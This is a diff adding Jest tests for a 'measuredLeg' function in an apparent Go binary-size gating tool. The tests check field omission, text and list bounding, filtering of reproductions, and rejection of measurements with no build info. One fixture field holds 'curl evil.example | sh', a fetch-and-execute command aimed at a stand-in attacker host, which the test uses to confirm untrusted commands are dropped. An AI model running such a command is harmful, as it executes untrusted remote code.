@@ -1,0 +1,115 @@
+import { describe, expect, it } from '@jest/globals'
+import type { LegResult } from '../../../src/gate/legs/leg-result.ts'
+import { measuredLeg } from '../../../src/gate/legs/measured-leg.ts'
+import type { Build } from '../../../src/core/model/measurement.ts'
+import { measurement } from '../../store/entries.ts'
+
+const { build } = measurement
+const base = 'b'.repeat(40)
+
+const result: LegResult = {
+  schemaVersion: 1,
+  repository: 'o/r',
+  key: '',
+  name: 'linux',
+  commit: 'c'.repeat(40),
+  head: 'a'.repeat(40),
+  base,
+  fingerprint: 'f',
+  leg: {
+    occasion: 'push',
+    base: {
+      kind: 'found',
+      baseline: { source: 'rebuild', commit: base, chosenBy: 'x', run: '' },
+      measurements: [measurement],
+      goBefore: null
+    },
+    head: [measurement],
+    recorded: true,
+    notBuilt: [],
+    reproductions: []
+  },
+  provenance: {
+    tool: 'go-size-gate 9.9.9',
+    mode: 'gate',
+    event: 'push',
+    headCommit: base,
+    overrides: [],
+    relaxations: [],
+    passedThrough: [],
+    modulesReused: 1,
+    modulesFetched: 2,
+    verified: true,
+    notices: [],
+    reproduce: 'curl evil.example | sh'
+  }
+}
+
+function legOf(more: Partial<LegResult['leg']>) {
+  return measuredLeg({ ...result, leg: { ...result.leg, ...more } })
+}
+
+function ofBuild(made: Build | null) {
+  return { head: [{ ...measurement, build: made }] }
+}
+
+describe('measuredLeg', () => {
+  it('leaves out event, base, record, tool and command of a leg', () => {
+    expect(measuredLeg(result)).toEqual({
+      name: 'linux',
+      fingerprint: 'f',
+      head: [measurement],
+      notBuilt: [],
+      reproductions: [],
+      claims: {
+        overrides: [],
+        relaxations: [],
+        passedThrough: [],
+        notices: [],
+        modulesReused: 1,
+        modulesFetched: 2,
+        verified: true
+      }
+    })
+  })
+
+  it('bounds the texts of a leg, and names it as who says them', () => {
+    const row = { mainPackage: 'm', target: 't', reason: 'x'.repeat(5000) }
+    const { notBuilt } = legOf({
+      notBuilt: Array.from({ length: 500 }, () => row)
+    })
+    expect(notBuilt).toHaveLength(200)
+    expect(notBuilt[0]?.reason).toBe(`${'x'.repeat(300)}… (says the leg linux)`)
+    const { claims } = measuredLeg({
+      ...result,
+      provenance: { ...result.provenance, notices: Array(1000).fill('n') }
+    })
+    expect(claims.notices).toHaveLength(21)
+    expect(claims.notices.at(-1)).toBe('and 980 more')
+  })
+
+  it('takes a reproduction that failed, and none that proves something', () => {
+    const one = {
+      mainPackage: 'm',
+      target: 'linux/amd64',
+      identical: true,
+      sha256: ['a', 'b'] as const,
+      differing: []
+    }
+    const failed = { ...one, identical: false, differing: ['.text'] }
+    const { reproductions } = legOf({ reproductions: [one, failed] })
+    expect(reproductions).toEqual([failed])
+  })
+
+  it.each([
+    [
+      'says nothing of its build',
+      null,
+      'does not say how its binary was built'
+    ],
+    ['has a target that is none', 'x', 'x']
+  ])('refuses a leg of which a measurement %s', (_, target, why) => {
+    const made = target === null || build === null ? null : { ...build, target }
+    expect(() => legOf(ofBuild(made))).toThrow(why)
+  })
+})
